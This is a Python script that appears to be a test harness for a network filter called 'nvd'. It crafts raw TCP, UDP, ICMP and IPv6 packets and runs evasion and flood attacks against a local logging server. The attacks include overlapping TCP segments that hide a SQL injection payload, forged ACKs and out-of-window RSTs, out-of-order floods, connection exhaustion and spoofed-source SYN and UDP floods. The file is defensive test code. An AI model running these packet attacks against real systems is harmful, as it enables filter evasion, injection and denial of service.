#!/usr/bin/env python3
"""attack.py: what a hostile container sends (issue 12), in plain Python 3.

Raw IPv4/IPv6 packets with TCP (and options), UDP, ICMP and ICMPv6, their
checksums computed here; a raw TCP client that makes its own handshake
with a real kernel server and then sends whatever segments it likes; and
the victim, a small logging server.  Each subcommand prints one line.

The raw TCP client uses source ports 20000-29999 and marks what it sends
with RAW_MARK (SO_MARK): the test drops the RSTs its own kernel would send
for those ports (it has no socket for them) with an nftables rule in the
client's namespace that spares marked packets:

    tcp sport 20000-29999 tcp flags & rst == rst meta mark != 0x4154 drop

Victim:
  serve ADDR LOG PORT...        HTTP/1.x on each PORT: logs "REQ PORT LINE"
                                for every request head, "BODY PORT N DATA"
                                for its body, answers 200; a first line that
                                is not HTTP is logged "LINE PORT TEXT", as
                                every line after it, unanswered; after an h2c
                                upgrade request it answers nothing and only
                                counts bytes, in LOG.sink ("PORT BYTES"); its
                                listeners take Fast Open where the
                                namespace's net.ipv4.tcp_fastopen allows
Kernel TCP clients:
  get DST PORT PATH             "got CODE", "reset", "closed", "no answer"
  bighead DST PORT PATH N SIZE  a GET with N headers of SIZE bytes each
  urg-get DST PORT PATH N       a GET whose path has, after its first N
                                bytes, an extra byte sent as urgent data
                                (MSG_OOB): a receiver without SO_OOBINLINE
                                takes it out of the stream
  tfo-get DST PORT PATH         a GET sent in the SYN with TCP Fast Open
                                (MSG_FASTOPEN; the client namespace's
                                net.ipv4.tcp_fastopen decides whether it is)
  h2c-sink DST PORT BYTES       an h2c upgrade request, then BYTES one way:
                                "sent N"
  idle DST PORT N FILE          N connections, each with half a request
                                head, held until FILE is gone (at most
                                120 s): "held K of N"
Raw TCP (after a handshake of its own; each prints what the server answered):
  forged-ack DST PORT PATH      ACKs for ack 0 and 0x80000000, then a GET
  oow-rst DST PORT PATH         a RST far outside the window, then a GET
  syn-data DST PORT DATA        a SYN carrying an HTTP request, then DATA
  overlap DST PORT PATH         a benign copy out of order, the SQL
                                injection over it at the same sequence
                                numbers, then the hole filled
  ooo-flood DST PORT N [PACE]   N one-byte segments after a hole, in order;
                                PACE (a shell command that prints how many
                                packets wait in nvd's queue) is polled
                                between chunks: "sent N"
  rst DST PORT                  one RST-only segment, no connection
Raw IP:
  proto DST PROTO N             N packets of IP protocol PROTO: "sent N"
  ext6 DST PORT HDRS N          N UDP datagrams behind HDRS IPv6
                                destination-options headers: "sent N"
  icmp-error DST N              N ICMP type 3 (ICMPv6 type 1 for an IPv6
                                DST) carrying data that quotes nothing
  burst DST PORT N              N UDP datagrams, each from its own source
                                port, as fast as they go: "sent N"
  udp-probe DST PORT            a datagram from a connected UDP socket:
                                "refused" (an ICMP error came back) or
                                "no answer"
  spoof SRC DST UPORT TPORT N   N UDP datagrams to UPORT and N TCP SYNs to
                                TPORT with source address SRC, anyone's
                                (issue 13): "sent 2N"
"""
import os
import random
import re
import resource
import select
import selectors
import socket
import struct
import subprocess
import sys
import time

RAW_MARK = 0x4154
RAW_PORTS = (20000, 29999)
SQLI = "/items?id=1%20UNION%20SELECT%20password%20FROM%20users"
TH_FIN, TH_SYN, TH_RST, TH_PSH, TH_ACK = 0x01, 0x02, 0x04, 0x08, 0x10


# --- packets ------------------------------------------------------------------

def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def is6(addr):
    return ":" in addr


def pseudo(src, dst, proto, length):
    if is6(src):
        return (socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst)
                + struct.pack("!I3xB", length, proto))
    return socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!xBH", proto, length)


def ipv4(src, dst, proto, payload, ttl=64, ident=None):
    if ident is None:
        ident = random.randrange(65536)
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, 0x4000, ttl, proto, 0,
                    socket.inet_aton(src), socket.inet_aton(dst))
    return h[:10] + struct.pack("!H", csum(h)) + h[12:] + payload


def ipv6(src, dst, nh, payload, hlim=64):
    return (struct.pack("!IHBB", 6 << 28, len(payload), nh, hlim)
            + socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst)
            + payload)


def ip(src, dst, proto, payload):
    return ipv6(src, dst, proto, payload) if is6(src) else ipv4(src, dst, proto, payload)


def tcp_opts(mss=None, wscale=None, sack_ok=False, ts=None):
    o = b""
    if mss is not None:
        o += struct.pack("!BBH", 2, 4, mss)
    if wscale is not None:
        o += struct.pack("!BBBB", 1, 3, 3, wscale)
    if sack_ok:
        o += b"\x01\x01\x04\x02"
    if ts is not None:
        o += struct.pack("!BBBBII", 1, 1, 8, 10, ts[0], ts[1])
    return o + b"\x01" * (-len(o) % 4)


def tcp(src, dst, sport, dport, seq, ack, flags, payload=b"", win=65535, opts=b""):
    opts += b"\0" * (-len(opts) % 4)
    off = (20 + len(opts)) // 4
    h = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xffffffff, ack & 0xffffffff,
                    off << 4, flags, win, 0, 0) + opts
    c = csum(pseudo(src, dst, 6, len(h) + len(payload)) + h + payload)
    return h[:16] + struct.pack("!H", c) + h[18:] + payload


def udp(src, dst, sport, dport, payload):
    h = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0)
    c = csum(pseudo(src, dst, 17, len(h) + len(payload)) + h + payload) or 0xffff
    return h[:6] + struct.pack("!H", c) + payload


def icmp4(typ, code, rest, payload):
    h = struct.pack("!BBH", typ, code, 0) + rest + payload
    return h[:2] + struct.pack("!H", csum(h)) + h[4:]


def icmp6(src, dst, typ, code, rest, payload):
    h = struct.pack("!BBH", typ, code, 0) + rest + payload
    c = csum(pseudo(src, dst, 58, len(h)) + h)
    return h[:2] + struct.pack("!H", c) + h[4:]


def destopts(nh):
    """An 8-byte IPv6 destination-options header: one PadN option."""
    return struct.pack("!BBBB4x", nh, 0, 1, 4)


# --- raw sockets --------------------------------------------------------------

def sender(fam):
    s = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, RAW_MARK)
    return s


def send_ip(s, dst, pkt):
    s.sendto(pkt, (dst, 0))


def local_addr(dst):
    """The source address the kernel would pick for dst."""
    fam = socket.AF_INET6 if is6(dst) else socket.AF_INET
    u = socket.socket(fam, socket.SOCK_DGRAM)
    u.connect((dst, 9))
    a = u.getsockname()[0]
    u.close()
    return a


class RawTCP:
    """One TCP connection made by hand, IPv4, against a real kernel server."""

    def __init__(self, dst, dport, sport=None):
        self.dst, self.dport = dst, dport
        self.src = local_addr(dst)
        # By pid: the connections of one test never share a port.
        self.sport = sport or RAW_PORTS[0] + os.getpid() % (RAW_PORTS[1] - RAW_PORTS[0] + 1)
        self.tx = sender(socket.AF_INET)
        self.rx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        self.rx.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
        self.iss = random.randrange(1 << 32)
        self.snd_nxt = self.iss
        self.irs = self.rcv_nxt = None
        self.data = b""
        self.reset = self.fin = False

    def send(self, flags, seq=None, ack=None, payload=b"", opts=b"", win=65535):
        if seq is None:
            seq = self.snd_nxt
        if ack is None:
            ack = self.rcv_nxt or 0
            if self.rcv_nxt is None:
                flags &= ~TH_ACK
        send_ip(self.tx, self.dst, ipv4(self.src, self.dst, 6,
                tcp(self.src, self.dst, self.sport, self.dport, seq, ack, flags, payload, win, opts)))

    def segment(self, payload, off=None, flags=TH_ACK | TH_PSH):
        """Sends payload at byte offset off of the stream (default: next)."""
        seq = self.iss + 1 + off if off is not None else self.snd_nxt
        self.send(flags, seq=seq, payload=payload)
        if off is None or (seq + len(payload) - self.snd_nxt) & 0x80000000 == 0:
            self.snd_nxt = (seq + len(payload)) & 0xffffffff

    def _packets(self, timeout):
        end = time.monotonic() + timeout
        while True:
            left = end - time.monotonic()
            if left <= 0:
                return
            r, _, _ = select.select([self.rx], [], [], left)
            if not r:
                return
            d = self.rx.recv(65535)
            ihl = (d[0] & 15) * 4
            if socket.inet_ntoa(d[12:16]) != self.dst or len(d) < ihl + 20:
                continue
            sp, dp, seq, ack, off, fl, win = struct.unpack("!HHIIBBH", d[ihl:ihl + 16])
            if sp != self.dport or dp != self.sport:
                continue
            tot = struct.unpack("!H", d[2:4])[0]
            yield seq, ack, fl, d[ihl + (off >> 4) * 4:tot]

    def handshake(self, syn_payload=b"", timeout=3):
        """True once the server's SYN/ACK came and was acknowledged."""
        opts = tcp_opts(mss=1460)
        for _ in range(2):
            self.send(TH_SYN, seq=self.iss, payload=syn_payload, opts=opts)
            for seq, ack, fl, _ in self._packets(timeout):
                if fl & TH_RST:
                    self.reset = True
                    return False
                if fl & TH_SYN and fl & TH_ACK and ack == (self.iss + 1) & 0xffffffff:
                    self.irs = seq
                    self.rcv_nxt = (seq + 1) & 0xffffffff
                    self.snd_nxt = (self.iss + 1) & 0xffffffff
                    self.send(TH_ACK)
                    return True
        return False

    def read(self, timeout=3, done=None):
        """Collects the server's bytes in order, ACKing them, until RST,
        FIN, done(data) or timeout."""
        for seq, ack, fl, pl in self._packets(timeout):
            if fl & TH_RST:
                self.reset = True
                break
            if pl and seq == self.rcv_nxt:
                self.data += pl
                self.rcv_nxt = (self.rcv_nxt + len(pl)) & 0xffffffff
            if fl & TH_FIN and (seq + len(pl)) & 0xffffffff == self.rcv_nxt:
                self.rcv_nxt = (self.rcv_nxt + 1) & 0xffffffff
                self.fin = True
            if pl or fl & TH_FIN:
                self.send(TH_ACK)
            if self.fin or (done and done(self.data)):
                break
        return self.data

    def answer(self, timeout=3):
        """"got CODE", "reset", "closed" or "no answer" for an HTTP request."""
        self.read(timeout, done=lambda d: b"\r\n" in d)
        return outcome_of(self.data, self.reset, self.fin)

    def close(self):
        # An in-window RST, so that the server and nvd forget the connection.
        if self.rcv_nxt is not None and not self.reset:
            self.send(TH_RST | TH_ACK)


def outcome_of(data, reset, fin):
    m = re.match(rb"HTTP/1\.[01] (\d{3})", data)
    if m:
        return "got " + m.group(1).decode()
    if data:
        return "got data %r" % data[:40]
    if reset:
        return "reset"
    if fin:
        return "closed"
    return "no answer"


def request(path, version="1.1", headers=()):
    h = "GET %s HTTP/%s\r\nHost: web\r\n" % (path, version)
    for k, v in headers:
        h += "%s: %s\r\n" % (k, v)
    return (h + "\r\n").encode()


# --- raw TCP attacks ----------------------------------------------------------

def connected(dst, port, syn_payload=b""):
    c = RawTCP(dst, int(port))
    if not c.handshake(syn_payload):
        print("handshake reset" if c.reset else "no synack", flush=True)
        sys.exit(0)
    return c


def forged_ack(dst, port, path):
    c = connected(dst, port)
    for a in (0, 0x80000000):
        c.send(TH_ACK, ack=a)
        time.sleep(0.05)
    time.sleep(0.2)
    c.segment(request(path, "1.0"))
    print(c.answer(), flush=True)
    c.close()


def oow_rst(dst, port, path):
    c = connected(dst, port)
    c.send(TH_RST, seq=c.snd_nxt + 0x40000000, ack=0)
    time.sleep(0.3)
    c.segment(request(path))
    print(c.answer(), flush=True)
    c.close()


def syn_data(dst, port, data):
    c = connected(dst, port, request("/", "1.1"))
    time.sleep(0.1)
    c.segment(data.encode().decode("unicode_escape").encode("latin-1"))
    print(c.answer(), flush=True)
    c.close()


def overlap(dst, port, path):
    """Linux keeps, of two out-of-order copies that start at the same
    sequence number, the later one when it is longer (tcp_data_queue_ofo):
    the benign copy is one byte shorter than the attack."""
    attack = request(path)
    benign = request(path.replace("UNION", "UNXON").replace("SELECT", "SELXCT"))
    assert len(attack) == len(benign) and attack != benign
    k = len("GET /")
    assert attack[:k] == benign[:k] and attack[-3:] == benign[-3:]
    c = connected(dst, port)
    c.segment(benign[k:-1], off=k)
    time.sleep(0.1)
    c.segment(attack[k:], off=k)
    time.sleep(0.1)
    c.segment(attack[:k], off=0)
    c.snd_nxt = (c.iss + 1 + len(attack)) & 0xffffffff
    print(c.answer(), flush=True)
    c.close()


def queued(cmd):
    try:
        return int(subprocess.run(cmd, shell=True, capture_output=True, text=True,
                                  timeout=10).stdout.strip())
    except (ValueError, subprocess.TimeoutExpired):
        return None


def ooo_flood(dst, port, n, pace=None):
    """n one-byte segments at offsets 1..n (offset 0 never sent), in order:
    each one lands after every segment held so far.  With pace (a command
    that prints how many packets wait in nvd's queue), sent in chunks, each
    once the queue is short again: a queue that overflows would let
    segments by unseen (fail-open) or drop them."""
    c = connected(dst, port)
    sent, chunk, waits = 0, 500, 0
    while sent < n:
        if pace:
            end = time.monotonic() + 10
            while time.monotonic() < end:
                q = queued(pace)
                if q is None:
                    sys.exit("attack.py ooo-flood: %r printed no queue length" % pace)
                if q <= chunk:
                    break
                waits += 1
                time.sleep(0.01)
        for i in range(sent, min(n, sent + chunk)):
            c.send(TH_ACK, seq=c.iss + 2 + i, payload=b"x")
        sent = min(n, sent + chunk)
    print("sent %d" % sent + (", paced %d times" % waits if pace else ""), flush=True)


def rst_only(dst, port):
    src = local_addr(dst)
    s = sender(socket.AF_INET6 if is6(dst) else socket.AF_INET)
    sp = random.randint(*RAW_PORTS)
    send_ip(s, dst, ip(src, dst, 6, tcp(src, dst, sp, int(port), random.randrange(1 << 32), 0,
                                        TH_RST, win=0)))
    print("sent 1", flush=True)


# --- raw IP -------------------------------------------------------------------

def proto(dst, pr, n):
    src = local_addr(dst)
    s = sender(socket.AF_INET6 if is6(dst) else socket.AF_INET)
    for i in range(n):
        send_ip(s, dst, ip(src, dst, pr, b"tunnel %d: any bytes at all\n" % i))
        time.sleep(0.02)
    print("sent %d" % n, flush=True)


def ext6(dst, port, hdrs, n):
    src = local_addr(dst)
    s = sender(socket.AF_INET6)
    for i in range(n):
        # A source port of its own per chain length: a datagram of a flow
        # conntrack already knows (and nvd handed to the kernel) is not
        # queued again, however its headers are chained.
        payload = udp(src, dst, 33000 + 256 * hdrs + i, port, b"behind %d headers\n" % hdrs)
        nh = 17
        for _ in range(hdrs):
            payload = destopts(nh) + payload
            nh = 60
        send_ip(s, dst, ipv6(src, dst, nh, payload))
        time.sleep(0.02)
    print("sent %d" % n, flush=True)


def icmp_error(dst, n):
    src = local_addr(dst)
    data = b"not a quoted header, just data to tunnel " * 8
    s = sender(socket.AF_INET6 if is6(dst) else socket.AF_INET)
    for i in range(n):
        if is6(dst):
            pkt = ipv6(src, dst, 58, icmp6(src, dst, 1, 4, b"\0" * 4, data))
        else:
            pkt = ipv4(src, dst, 1, icmp4(3, 3, b"\0" * 4, data))
        send_ip(s, dst, pkt)
        time.sleep(0.02)
    print("sent %d" % n, flush=True)


def burst(dst, port, n):
    src = local_addr(dst)
    s = sender(socket.AF_INET6 if is6(dst) else socket.AF_INET)
    pkts = [ip(src, dst, 17, udp(src, dst, 30000 + i % 20000, port, b"b"))
            for i in range(n)]
    sent = 0
    for p in pkts:
        try:
            send_ip(s, dst, p)
            sent += 1
        except OSError:
            time.sleep(0.001)
    print("sent %d" % sent, flush=True)


def spoof(src, dst, uport, tport, n):
    """N UDP datagrams to UPORT and N TCP SYNs to TPORT, from SRC, whoever's
    address that is; each from a source port of its own."""
    s = sender(socket.AF_INET6 if is6(dst) else socket.AF_INET)
    for i in range(n):
        send_ip(s, dst, ip(src, dst, 17, udp(src, dst, 31000 + i, uport, b"as %s\n" % src.encode())))
        send_ip(s, dst, ip(src, dst, 6, tcp(src, dst, 32000 + i, tport, random.randrange(1 << 32), 0,
                                             TH_SYN, opts=tcp_opts(mss=1460))))
        time.sleep(0.02)
    print("sent %d" % (2 * n), flush=True)


def udp_probe(dst, port):
    u = socket.socket(socket.AF_INET6 if is6(dst) else socket.AF_INET, socket.SOCK_DGRAM)
    u.connect((dst, port))
    u.settimeout(1)
    for _ in range(3):
        try:
            u.send(b"probe\n")
            u.recv(100)
            print("answered", flush=True)
            return
        except ConnectionRefusedError:
            print("refused", flush=True)
            return
        except (socket.timeout, TimeoutError):
            pass
    print("no answer", flush=True)


# --- kernel TCP clients -------------------------------------------------------

def kernel_answer(s, timeout=5):
    s.settimeout(timeout)
    data, reset, fin = b"", False, False
    try:
        while b"\r\n" not in data:
            d = s.recv(4096)
            if not d:
                fin = True
                break
            data += d
    except (ConnectionResetError, BrokenPipeError):
        reset = True
    except ConnectionRefusedError:
        return "refused"
    except (socket.timeout, TimeoutError):
        pass
    return outcome_of(data, reset, fin)


def kernel_request(dst, port, req, send=None):
    """send(s) sends req its own way; by default all at once."""
    try:
        s = socket.create_connection((dst, port), timeout=3)
    except ConnectionRefusedError:
        print("refused", flush=True)
        return
    except OSError:
        print("no answer", flush=True)
        return
    try:
        if send:
            send(s)
        else:
            s.sendall(req)
    except (ConnectionResetError, BrokenPipeError):
        print("reset", flush=True)
        return
    except (socket.timeout, TimeoutError):
        pass
    print(kernel_answer(s), flush=True)
    s.close()


def get(dst, port, path):
    kernel_request(dst, port, request(path))


def urg_get(dst, port, path, n):
    req = request(path)
    cut = req.index(b" ") + 1 + n

    def send(s):
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.sendall(req[:cut])
        time.sleep(0.1)
        s.send(b"X", socket.MSG_OOB)
        time.sleep(0.1)
        s.sendall(req[cut:])
    kernel_request(dst, port, req, send)


def tfo_get(dst, port, path):
    s = socket.socket(socket.AF_INET6 if is6(dst) else socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        s.sendto(request(path), socket.MSG_FASTOPEN, (dst, port))
    except ConnectionRefusedError:
        print("refused", flush=True)
        return
    except (ConnectionResetError, BrokenPipeError):
        print("reset", flush=True)
        return
    except OSError:
        print("no answer", flush=True)
        return
    print(kernel_answer(s), flush=True)
    s.close()


def bighead(dst, port, path, n, size):
    hdrs = [("X-Pad-%d" % i, chr(ord("a") + i % 26) * size) for i in range(n)]
    kernel_request(dst, port, request(path, headers=hdrs))


def h2c_sink(dst, port, total):
    up = (b"GET / HTTP/1.1\r\nHost: web\r\nConnection: Upgrade, HTTP2-Settings\r\n"
          b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n")
    s = socket.create_connection((dst, port), timeout=3)
    sent = 0
    block = bytes(random.getrandbits(8) for _ in range(1024)) * 64
    end = time.monotonic() + 20
    try:
        s.sendall(up)
        while sent < total and time.monotonic() < end:
            sent += s.send(block[:min(len(block), total - sent)])
    except (OSError, socket.timeout):
        pass
    print("sent %d" % sent, flush=True)
    s.close()


def raise_nofile():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def idle(dst, port, n, holdfile):
    """n connections with half a head each.  Connects go out in batches of
    500 (the server's backlog is 4096), all waited for at most 20 s: a
    connection nvd refuses may fail at once or time out."""
    raise_nofile()
    half = b"GET /idle HTTP/1.1\r\nHost: web\r\n"
    sel = selectors.DefaultSelector()
    socks, ok, pending = [], 0, 0
    end = time.monotonic() + 20

    def settle(timeout):
        nonlocal ok, pending
        for key, _ in sel.select(timeout):
            s = key.fileobj
            sel.unregister(s)
            pending -= 1
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                try:
                    s.send(half)
                    ok += 1
                except OSError:
                    pass
    for start in range(0, n, 500):
        for _ in range(start, min(n, start + 500)):
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setblocking(False)
            s.connect_ex((dst, port))
            sel.register(s, selectors.EVENT_WRITE)
            socks.append(s)
            pending += 1
        settle(0.2)
    while pending and time.monotonic() < end:
        settle(1)
    sel.close()
    print("held %d of %d" % (ok, n), flush=True)
    end = time.monotonic() + 120
    while os.path.exists(holdfile) and time.monotonic() < end:
        time.sleep(0.2)
    for s in socks:
        s.close()


# --- the victim ---------------------------------------------------------------

HTTP_LINE = re.compile(rb"^[A-Z]+ \S+ HTTP/1\.[01]$")
HEAD_MAX = 1 << 20


class Victim:
    def __init__(self, addr, log, ports):
        raise_nofile()
        self.log = open(log, "a", buffering=1)
        self.sinkfile = log + ".sink"
        self.sink = {}
        self.sel = selectors.DefaultSelector()
        for p in ports:
            fam = socket.AF_INET6 if is6(addr) else socket.AF_INET
            s = socket.socket(fam, socket.SOCK_STREAM)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.bind((addr, p))
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_FASTOPEN, 64)
            s.listen(4096)
            s.setblocking(False)
            self.sel.register(s, selectors.EVENT_READ, ("listen", p))

    def note(self, *words):
        self.log.write(" ".join(str(w) for w in words) + "\n")

    def sink_note(self, port, n):
        self.sink[port] = self.sink.get(port, 0) + n
        tmp = self.sinkfile + ".tmp"
        with open(tmp, "w") as f:
            for p, b in sorted(self.sink.items()):
                f.write("%d %d\n" % (p, b))
        os.replace(tmp, self.sinkfile)

    def run(self):
        while True:
            for key, _ in self.sel.select():
                if key.data[0] == "listen":
                    self.accept(key.fileobj, key.data[1])
                else:
                    self.serve(key.fileobj, key.data)

    def accept(self, s, port):
        try:
            c = s.accept()[0]
        except OSError:
            return
        c.setblocking(False)
        # A connection's state: kind, port, bytes unread, mode (http, body,
        # lines or sink), body bytes still to come, sink bytes not noted.
        self.sel.register(c, selectors.EVENT_READ, ["conn", port, b"", "http", 0, 0])

    def close(self, c):
        self.sel.unregister(c)
        c.close()

    def serve(self, c, st):
        try:
            d = c.recv(65536)
        except OSError:
            d = b""
        if not d:
            self.close(c)
            return
        port = st[1]
        if st[3] == "sink":
            st[5] += len(d)
            if st[5] >= 65536:
                self.sink_note(port, st[5])
                st[5] = 0
            return
        st[2] += d
        while st[2]:
            if st[3] == "body":
                take = st[2][:st[4]]
                st[2], st[4] = st[2][len(take):], st[4] - len(take)
                self.note("BODY", port, len(take), repr(take[:200]))
                if st[4] == 0:
                    st[3] = "http"
                continue
            if st[3] == "lines" or (b"\n" in st[2] and not HTTP_LINE.match(
                    st[2].split(b"\n", 1)[0].rstrip(b"\r"))):
                st[3] = "lines"
                if b"\n" not in st[2]:
                    return
                line, st[2] = st[2].split(b"\n", 1)
                self.note("LINE", port, line.rstrip(b"\r").decode("latin-1"))
                continue
            end = st[2].find(b"\r\n\r\n")
            if end < 0:
                if len(st[2]) > HEAD_MAX:
                    self.note("TOOBIG", port, len(st[2]))
                    self.close(c)
                return
            head, st[2] = st[2][:end], st[2][end + 4:]
            lines = head.split(b"\r\n")
            self.note("REQ", port, lines[0].decode("latin-1"), "head", len(head) + 4)
            fields = {l.split(b":", 1)[0].strip().lower(): l.split(b":", 1)[1].strip()
                      for l in lines[1:] if b":" in l}
            if fields.get(b"upgrade", b"").lower() == b"h2c":
                st[3], st[5] = "sink", len(st[2])
                st[2] = b""
                self.sink_note(port, 0)
                return
            n = int(fields.get(b"content-length", b"0") or 0)
            if n:
                st[3], st[4] = "body", n
            try:
                c.send(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nok\n")
            except OSError:
                self.close(c)
                return
            if lines[0].endswith(b"HTTP/1.0"):
                self.close(c)
                return


# --- main ---------------------------------------------------------------------

def main(a):
    cmds = {
        "serve": lambda: Victim(a[0], a[1], [int(p) for p in a[2:]]).run(),
        "get": lambda: get(a[0], int(a[1]), a[2]),
        "tfo-get": lambda: tfo_get(a[0], int(a[1]), a[2]),
        "urg-get": lambda: urg_get(a[0], int(a[1]), a[2], int(a[3])),
        "bighead": lambda: bighead(a[0], int(a[1]), a[2], int(a[3]), int(a[4])),
        "h2c-sink": lambda: h2c_sink(a[0], int(a[1]), int(a[2])),
        "idle": lambda: idle(a[0], int(a[1]), int(a[2]), a[3]),
        "forged-ack": lambda: forged_ack(a[0], a[1], a[2]),
        "oow-rst": lambda: oow_rst(a[0], a[1], a[2]),
        "syn-data": lambda: syn_data(a[0], a[1], a[2]),
        "overlap": lambda: overlap(a[0], a[1], a[2] if len(a) > 2 else SQLI),
        "ooo-flood": lambda: ooo_flood(a[0], a[1], int(a[2]), a[3] if len(a) > 3 else None),
        "rst": lambda: rst_only(a[0], a[1]),
        "proto": lambda: proto(a[0], int(a[1]), int(a[2])),
        "ext6": lambda: ext6(a[0], int(a[1]), int(a[2]), int(a[3])),
        "icmp-error": lambda: icmp_error(a[0], int(a[1])),
        "burst": lambda: burst(a[0], int(a[1]), int(a[2])),
        "udp-probe": lambda: udp_probe(a[0], int(a[1])),
        "spoof": lambda: spoof(a[0], a[1], int(a[2]), int(a[3]), int(a[4])),
    }
    if not a or a[0] not in cmds:
        sys.exit("usage: attack.py %s ... (see the head of this file)" % "|".join(cmds))
    cmd = a.pop(0)
    try:
        cmds[cmd]()
    except IndexError:
        sys.exit("attack.py %s: missing arguments (see the head of this file)" % cmd)


if __name__ == "__main__":
    main(sys.argv[1:])
